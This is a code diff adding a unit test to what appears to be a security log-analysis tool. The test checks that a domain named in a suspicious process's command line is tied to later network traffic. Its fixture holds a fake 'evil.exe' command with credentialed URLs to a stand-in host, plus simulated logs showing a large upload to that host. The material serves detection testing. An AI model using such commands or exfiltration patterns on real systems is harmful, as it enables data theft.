@@ -141,3 +141,37 @@ def test_nothing_to_look_for(tmp_path: Path) -> None:
     assert context.read(None) == context.Found()
     assert context.told((), (), (), {}, Assets()) == ()
     assert context.further((), (), Assets()) == ()
+
+
+def test_the_address_in_the_command_of_a_finding_leads_to_whoever_spoke_to_it(tmp_path: Path) -> None:
+    logs, rules = tmp_path / "logs", tmp_path / "rules"
+    logs.mkdir()
+    rules.mkdir()
+    command = "evil.exe -o x https://mere:pw@files.theirs.example/u http://10.0.0.7/y https://www.microsoft.com/z"
+    told_ = {
+        "ProcessGuid": PROCESS,
+        "Image": "C:\\Users\\mere\\evil.exe",
+        "CommandLine": command,
+        "User": "HOUSE\\mere",
+    }
+    (logs / "windows.ndjson").write_text(_sysmon(0, "1", **told_) + "\n", encoding="utf-8")
+    spoken = [
+        {"ts": _at(minute).timestamp(), "uid": f"S{minute}", "id.orig_h": OURS, "id.orig_p": 50_001}
+        | {"id.resp_h": OTHER, "id.resp_p": 443, "proto": "tcp", "server_name": name, "orig_bytes": sent}
+        for minute, name, sent in (
+            *((minute, "files.theirs.example", 10) for minute in range(1, 8)),
+            (8, "files.theirs.example", 2_000_000),
+            (9, "files.theirs.example", 10),
+            (10, "www.microsoft.com", 10),
+        )
+    ]
+    (logs / "conn.log").write_text("".join(json.dumps(one) + "\n" for one in spoken), encoding="utf-8")
+    (rules / "one.yml").write_text(RULE.format(number=1, level="high", name="evil.exe"), encoding="utf-8")
+    with respond([logs], pipeline.compile_rules(packs.resolve([str(rules)])), jobs=1, quieten=False) as response:
+        (incident,) = response.incidents
+    (line,) = [one for one in incident.context if one.kind == "domain"]
+    assert (line.name, line.count) == ("files.theirs.example", 9)
+    assert line.because == "the command of a finding names it"
+    lines = (logs / "conn.log").read_bytes()
+    cited = [json.loads(lines[at.rec :].partition(b"\n")[0])["orig_bytes"] for at in line.citations]
+    assert cited == [10, 10, 2_000_000]  # the first of them, and the one by which most was sent
